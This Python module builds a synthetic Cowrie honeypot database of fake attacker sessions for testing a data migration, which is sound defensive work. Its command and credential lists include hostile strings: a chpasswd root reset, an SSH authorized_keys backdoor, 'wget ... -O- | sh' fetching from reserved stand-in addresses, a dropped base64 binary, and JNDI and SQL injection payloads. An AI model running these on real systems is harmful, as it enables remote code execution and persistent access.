"""Makes a demo source: a Cowrie processor database of attacker traffic with a known, counted share of damage.

Belongs here: the generator. Not here: tables and kinds of damage (`demo_schema.py`), nor anything that reads,
judges or repairs a source; the migration has to find the damage without asking this module.
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
import sqlite3
import uuid
import zlib
from collections import Counter
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from functools import lru_cache
from pathlib import Path
from typing import NamedTuple

from cowrie_assets import demo_schema as sql
from cowrie_assets.errors import SettingsError

_GENERATOR_VERSION = 1  # raise it where the same arguments give other rows

_SECOND = 1_000_000  # times are integers: microseconds since 1970, UTC
_DAY = 86_400 * _SECOND
_POLL = 300 * _SECOND  # the loader looks for new lines every five minutes
_LONGEST_SESSION = 600 * _SECOND  # an upper bound: 30 events, up to 8 s apart, starting up to 60 s late
_CHUNK_EVENTS = 4_000  # about 3 MB: what memory holds at a time, whatever the total
_EPOCH = datetime(1970, 1, 1)  # noqa: DTZ001 - the processor stores UTC without an offset

# What botnets try, as JSON text. Cowrie logs a byte outside ASCII as the four characters \xNN.
_CREDENTIALS = r"""
    root/123456 root/admin root/root root/xc3511 root/vizxv root/1qaz@WSX admin/admin admin/1234 guest/
    pi/raspberry oracle/o'r\"a\\\\cle postgres/postgres test/123456 git/git 345gs5662d34/3245gs5662d34
    user/\\xd0\\xbf\\xd0\\xb0\\xd1\\x80\\xd0\\xbe\\xd0\\xbb\\xd1\\x8c root/\\xe5\\xaf\\x86 o'brien/password
    ${jndi:ldap:198.51.100.7}/x ';--/1 nul\\x00user/x
""".split()  # noqa: SIM905 - shorter, and read by eye
_COMMANDS = {
    "uname -s -v -n -r -m": 20,
    "cat /proc/cpuinfo | grep name | wc -l": 45,
    "cat /proc/mounts; /bin/busybox QWERT": 45,
    "echo 'привет, мир 🧪 密码'": 20,
    "echo \x1b[31mred\x1b[0m\x1b]0;title\x07": 45,
    'echo "\'; DROP TABLE raw_events; --"': 45,
    "echo '\\N' '\\.' \\N": 20,
    "chmod 0755 /tmp/x && nohup /tmp/x > /dev/null 2>&1 &": 45,
    "python3 -c 'print(1)'": 60,
    'echo -e "root:NEWPASS123"|chpasswd|bash': 85,
    'cd ~ && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQ mdrfckr">>.ssh/authorized_keys': 85,
}
_CLIENTS = ["Go", "libssh-0.9.6", "paramiko_2.8.1", "PuTTY_Release_0.78", "ZGrab ZGrab SSH Survey"]
_KEX = ["curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "diffie-hellman-group14-sha256", "ext-info-c"]
_KEYS = ["ssh-ed25519", "ecdsa-sha2-nistp256", "rsa-sha2-512", "rsa-sha2-256"]
_CIPHERS = ["aes128-ctr", "aes192-ctr", "aes256-ctr", "aes128-gcm@openssh.com", "aes256-gcm@openssh.com"]
_MACS = ["hmac-sha2-256", "hmac-sha2-512", "hmac-sha1"]


@dataclass(frozen=True)
class DemoSource:
    """What was made.

    Attributes:
        path: the database file.
        seed: the seed it was made from.
        rows: number of rows by table, for all tables of the file.
        dirty: number of damaged rows by name in `demo_schema.DEFECTS`; a row has one defect at most. Those
            in `demo_schema.DECOYS` only look like damage.
    """

    path: Path
    seed: int
    rows: dict[str, int]
    dirty: dict[str, int]


_Row = tuple[str, str, str, int, str, str, str, int, int]  # of raw_events, as INSERT_EVENT takes it


class _Event(NamedTuple):
    at: int
    kind: str
    fields: str
    message: str
    tail: str
    risk: int


class _Session(NamedTuple):
    id: str
    head: str  # the fields that open each payload of the session
    clock: int  # the loader's time at the session's start; later than `at` for stragglers and a bulk load
    events: list[_Event]

    def poll(self, event: _Event) -> int:
        """Number of the loader's poll that finds the event."""
        return max(event.at, self.clock) // _POLL + 1


class _Stretch(NamedTuple):
    """Events of one sensor that happen within `begin` + `span` and are loaded within `load` + `load_span`."""

    events: int
    sensor: str
    begin: int
    span: int
    load: int
    load_span: int

    def source(self, time: str) -> str:
        """The log file, rotated daily, of an event at `time`."""
        return f"/srv/honeypot/{self.sensor}/cowrie.json.{time[:10]}"


class _Command(NamedTuple):
    text: str
    quoted: str  # as JSON shows it, without the quotes
    tail: str  # the fields that the processor adds to Cowrie's event
    risk: int


def _command(text: str, risk: int) -> _Command:
    safe = text.replace("&&", "[AND]").replace("|", " [PIPE] ").replace("http://", "[URL]").replace(";", " [SC]")
    digest = hashlib.sha256(text.encode()).hexdigest()
    tail = f', "input_safe": {json.dumps(safe)}, "input_hash": "{digest}", "command": null'
    return _Command(text, json.dumps(text)[1:-1], tail, risk)


def _key_exchange(number: int) -> tuple[str, str]:
    """A client's SSH fingerprint, and the fields of its kex event."""
    kex, ciphers = _KEX[number % 3 :], _CIPHERS[number % 4 :]
    algorithms = ";".join((",".join(kex), ",".join(ciphers), ",".join(_MACS), "none"))
    hassh = hashlib.sha256(algorithms.encode()).hexdigest()[:32]
    fields = {
        "hassh": hassh,
        "hasshAlgorithms": algorithms,
        "kexAlgs": kex,
        "keyAlgs": _KEYS,
        "encCS": ciphers,
    }
    return hassh, json.dumps(fields | {"macCS": _MACS, "compCS": ["none"], "langCS": [""]})[1:-1] + ", "


_COMMAND_POOL = [_command(text, risk) for text, risk in _COMMANDS.items()]
_CLIENT_POOL = [(f"SSH-2.0-{client}", *_key_exchange(number)) for number, client in enumerate(_CLIENTS)]


def _time(at: int) -> str:
    return (_EPOCH + timedelta(microseconds=at)).isoformat(" ", "microseconds")


@lru_cache(maxsize=4096)
def _ingest(seed: int, poll: int) -> tuple[str, str]:
    """A poll's ingest id and its time; a pure function, so that nothing has to be kept for late sessions."""
    digest = hashlib.sha256(f"{seed}:{poll}".encode()).digest()
    return uuid.UUID(bytes=digest[:16], version=4).hex, _time(poll * _POLL + 17 * _SECOND)[:19]


@lru_cache(maxsize=4096)
def _inode(source: str) -> str:
    return str(2_000_000 + zlib.crc32(source.encode()) % 1_000_000)


def _address(rng: random.Random) -> str:
    number = rng.getrandbits(17)  # of 198.18.0.0/15, which RFC 2544 sets aside
    return f"198.{18 + (number >> 16)}.{(number >> 8) & 255}.{number & 255}"


def _attack(rng: random.Random, at: int, peer: str, session: str, telnet: bool) -> list[_Event]:
    """A session's events in time order: a scan (30 %), password guessing (58 %) or a shell (12 %)."""
    events: list[_Event] = []
    now = at

    def add(kind: str, message: str, fields: str = "", tail: str = "", risk: int = 0) -> None:
        nonlocal now
        events.append(_Event(now, kind, fields, message, tail, risk))
        now += 1_000 + int(rng.random() ** 4 * 8 * _SECOND)

    def log_in(outcome: str, verb: str) -> None:
        username, password = _CREDENTIALS[int(rng.random() * len(_CREDENTIALS))].split("/")
        fields = f'"username": "{username}", "password": "{password}", '
        add(f"login.{outcome}", f"login attempt [{username}/{password}] {verb}", fields)

    style = rng.random()
    add("session.connect", f"New connection: {peer} (203.0.113.9:{2222 + telnet}) [session: {session}]")
    if not telnet:
        client, hassh, algorithms = _CLIENT_POOL[int(rng.random() * len(_CLIENT_POOL))]
        add("client.version", f"Remote SSH version: {client}", f'"version": "{client}", ')
        if style > 0.3:
            add("client.kex", f"SSH client hassh fingerprint: {hassh}", algorithms)
    if style > 0.3:
        for _ in range(int(rng.random() * (24 if style < 0.88 else 4))):
            log_in("failed", "failed")
    if style > 0.88:
        log_in("success", "succeeded")
        add("session.params", "", '"arch": "linux-x64-lsb", ')
        _shell(rng, add)
        digest, spent = f"{rng.getrandbits(256):064x}", (now - at) // 1_000
        log = f"var/lib/cowrie/tty/{digest}"
        fields = f'"ttylog": "{log}", "size": {spent % 7919}, "shasum": "{digest}", "duplicate": false, '
        fields += f'"duration_ms": {spent}, '
        add("log.closed", f"Closing TTY Log: {log} after {spent} milliseconds", fields)
    spent = (now - at) // 1_000
    add("session.closed", f"Connection lost after {spent} milliseconds", f'"duration_ms": {spent}, ')
    return events


def _shell(rng: random.Random, add: Callable[..., None]) -> None:
    """What is typed once inside. One shell in 25 pushes a program: 2,800 to 14,800 characters of base64."""
    commands = rng.sample(_COMMAND_POOL, 1 + int(rng.random() * 8))
    if rng.random() < 0.04:
        blob = base64.b64encode(rng.randbytes(2_100 + int(rng.random() * 9_000))).decode()
        commands.append(_command(f"echo {blob} | base64 -d > /tmp/.b; chmod +x /tmp/.b", 85))
    for command in commands:
        add("command.input", f"CMD: {command.quoted}", '"input": null, ', command.tail, command.risk)
        if "python3" in command.text or "busybox" in command.text:
            add("command.failed", f"Command not found: {command.quoted} ", '"input": null, ', command.tail)
    if rng.random() < 0.4:
        url = f"http://{_address(rng)}/mips"
        wget = _command(f"wget {url} -O- | sh", 85)
        add("command.input", f"CMD: {wget.quoted}", '"input": null, ', wget.tail, wget.risk)
        digest = hashlib.sha256(b"%d" % (rng.random() ** 3 * 500)).hexdigest()  # some programs are seen often
        out = f"var/lib/cowrie/downloads/{digest}"
        fields = f'"url": "{url}", "outfile": "{out}", "shasum": "{digest}", "duplicate": false, '
        message = f"Downloaded URL ({url}) with SHA-256 {digest} to {out}"
        add("session.file_download", message, fields, risk=30)


class _Loader:
    """Fills one database's tables as the processor's loader would, chunk by chunk."""

    def __init__(self, db: sqlite3.Connection, rng: random.Random, seed: int) -> None:
        self._db, self._rng, self._seed = db, rng, seed
        self._sessions = self._events = self._letters = 0
        self._lines: Counter[str] = Counter()  # lines read, by source
        self._uuid = uuid.UUID(int=rng.getrandbits(128), version=1)

    def load(self, stretch: _Stretch) -> None:
        """Write exactly the stretch's number of events, in loading order, and half as many dead letters."""
        done = 0
        while done < stretch.events:
            chunk: list[tuple[int, _Event, _Session]] = []
            while len(chunk) < min(_CHUNK_EVENTS, stretch.events - done):
                session = self._session(stretch, (done + len(chunk)) / stretch.events)
                del session.events[stretch.events - done - len(chunk) :]
                chunk += [(session.poll(event), event, session) for event in session.events]
            chunk.sort(key=lambda row: (row[0], row[1].at))
            done += len(chunk)
            self._write_events(stretch, chunk)

    def _session(self, stretch: _Stretch, share: float) -> _Session:
        rng = self._rng
        self._sessions += 1
        # An odd factor permutes the 48-bit numbers: ids look random and no two are the same.
        name = f"{(self._sessions * 0x9E3779B97F4B + self._seed * 0x51ED270B) % 2**48:012x}"
        at = stretch.begin + int(stretch.span * share + rng.random() * 60 * _SECOND)
        clock = stretch.load + int(stretch.load_span * share)
        if rng.random() < 0.003:  # a straggler, from a log that came up to 20 hours late
            at = max(stretch.begin, at - int(rng.random() * 20 / 24 * _DAY))
        telnet, address, port = rng.random() < 0.2, _address(rng), 1_024 + at % 64_000
        head = (
            f'{{"session": "{name}", "protocol": "{"telnet" if telnet else "ssh"}", "src_ip": "{address}", '
            f'"src_port": {port}, "dst_ip": "203.0.113.9", "dst_port": {2222 + telnet}, '
        )
        return _Session(name, head, clock, _attack(rng, at, f"{address}:{port}", name, telnet))

    def _read_line(self, source: str) -> int:
        self._lines[source] += 1
        return self._lines[source] - 1

    def _write_events(self, stretch: _Stretch, chunk: list[tuple[int, _Event, _Session]]) -> None:
        sensor = f'"sensor": "{stretch.sensor}", "uuid": "{self._uuid}"'
        rows: list[_Row] = []
        for poll, event, session in chunk:
            at = _time(event.at)
            payload = (
                f'{session.head}{event.fields}"eventid": "cowrie.{event.kind}", {sensor}, '
                f'"timestamp": "{at[:10]}T{at[11:]}Z", "message": "{event.message}"{event.tail}}}'
            )
            source, digest = stretch.source(at), hashlib.sha256(payload.encode()).hexdigest()
            facts = (source, self._read_line(source), _inode(source), payload, digest)
            rows.append((*_ingest(self._seed, poll), *facts, event.risk, int(event.risk >= 85)))
        self._db.executemany(sql.INSERT_EVENT, rows)
        self._events += len(rows)
        self._write_dead_letters(rows, self._events // 2 - self._letters)

    def _write_dead_letters(self, rows: list[_Row], count: int) -> None:
        """What was quarantined, and then lines of logs that somebody saved with one field to a line."""
        letters = [(row[0], row[2], row[3], "quarantined", row[5], row[1]) for row in rows if row[-1]]
        # An event is 13 such lines or more.
        some = sorted(self._rng.sample(range(len(rows)), max(0, count - len(letters)) // 13 + 1))
        for ingest, loaded, log, _, _, payload, *_ in (rows[number] for number in some):
            source = log.replace("cowrie", "pretty")
            for line in ("{", *payload[1:-1].replace(', "', ',\n"').split("\n"), "}"):
                wrapped = f'{{"malformed": {json.dumps(line)}}}'
                letters.append((ingest, source, self._read_line(source), "validation", wrapped, loaded))
        letters = sorted(letters[:count], key=lambda letter: letter[-1])
        self._db.executemany(sql.INSERT_DEAD_LETTER, letters)
        self._letters += count


def _stretches(events: int, days: int, last_day: date) -> list[_Stretch]:
    """The demo's history: a live sensor, and late in it an old sensor's logs, loaded within one hour."""
    end = (datetime(last_day.year, last_day.month, last_day.day) - _EPOCH).days * _DAY + _DAY  # noqa: DTZ001
    begin, end = end - days * _DAY, end - _LONGEST_SESSION
    middle = begin + days * 4 // 5 * _DAY + _DAY // 2
    bulk = events // 10
    before = (events - bulk) * (middle - begin) // (end - begin)
    return [
        _Stretch(before, "hp-live", begin, middle - begin, begin, middle - begin),
        _Stretch(bulk, "hp-old", begin, (middle - begin) * 3 // 4, middle, 3_600 * _SECOND),
        _Stretch(events - bulk - before, "hp-live", middle, end - middle, middle, end - middle),
    ]


def make_demo(
    path: Path,
    *,
    events: int = 200_000,
    days: int = 30,
    last_day: date,
    seed: int = 2026,
    dirty_per_mille: float = 2.0,
    schema: int = 3,
) -> DemoSource:
    """Make a demo database, or find it made: the same arguments give the same rows, byte for byte.

    It is in WAL mode with everything in the main file, as a loader leaves it that was closed. It appears
    whole: written as `<path>.part` and renamed.

    Args:
        path: the file to make; its folder is made where it is missing.
        events: number of raw_events, 500 or more. Half as many dead letters come with them, a session summary
            for about 12 and a command for about 20.
        days: over how many days the events spread, 1 or more; with under 60 a day, some days may have none.
        last_day: the last of them, UTC. The last minutes' events bear the next day as ingest_at.
        seed: what the content is drawn from.
        dirty_per_mille: damaged rows for 1,000 events, 0 to 50; above 0 each defect has one row at least.
        schema: the processor's schema version, 3 or 6.

    Raises:
        SettingsError: an argument is out of its range; the path is taken, or cannot be written.
    """
    for name, value, fits, range_ in (
        ("events", events, events >= 500, "500 or more"),
        ("days", days, 1 <= days <= 3_650, "1 to 3650"),
        ("last day", last_day, 1980 <= last_day.year <= 2999, "in the years 1980 to 2999"),
        ("dirty rows per mille", dirty_per_mille, 0 <= dirty_per_mille <= 50, "0 to 50"),
        ("schema", schema, schema in sql.SCHEMAS, "3 or 6"),
    ):
        if not fits:
            raise SettingsError(f"The demo's {name} cannot be {value}.", hint=f"It has to be {range_}.")
    count = sql.damage_count(events, dirty_per_mille)
    arguments = (_GENERATOR_VERSION, events, days, last_day.isoformat(), seed, float(dirty_per_mille), schema)
    mark = zlib.crc32(repr(arguments).encode()) >> 1  # 31 bits, as user_version is signed
    try:
        if not path.exists():
            path.parent.mkdir(parents=True, exist_ok=True)
            _build(path, mark, _stretches(events, days, last_day), seed, count, schema)
        elif not sql.has_stamp(path, mark):
            raise SettingsError(f"{path} is no demo of these arguments.", hint="Name a new file.")
        with closing(sqlite3.connect(f"{path.absolute().as_uri()}?immutable=1", uri=True)) as db:
            rows = sql.count_rows(db)
    except (OSError, sqlite3.Error) as error:
        raise SettingsError(f"{path} cannot be made: {error}.", hint="Name another folder.") from error
    return DemoSource(path, seed, rows, dict.fromkeys(sql.DEFECTS, count))


def _build(path: Path, mark: int, stretches: list[_Stretch], seed: int, count: int, schema: int) -> None:
    part = path.with_name(f"{path.name}.part")
    part.unlink(missing_ok=True)
    try:
        with closing(sqlite3.connect(part, isolation_level=None)) as db:
            rng = random.Random(seed)  # noqa: S311 - has to be repeatable, guards nothing
            db.executescript(sql.BUILD_SETTINGS)
            sql.stamp(db, mark)
            db.execute("BEGIN")
            for statement in sql.table_ddl(schema):
                db.execute(statement)
            loader = _Loader(db, rng, seed)
            for stretch in stretches:
                loader.load(stretch)
            for statement in sql.derived_rows(schema):
                db.execute(statement)
            sql.damage(db, rng, count)
            for statement in sql.index_ddl(schema):
                db.execute(statement)
            db.execute("COMMIT")
            db.execute("PRAGMA journal_mode = WAL")
        part.replace(path)
    except BaseException:
        part.unlink(missing_ok=True)
        raise
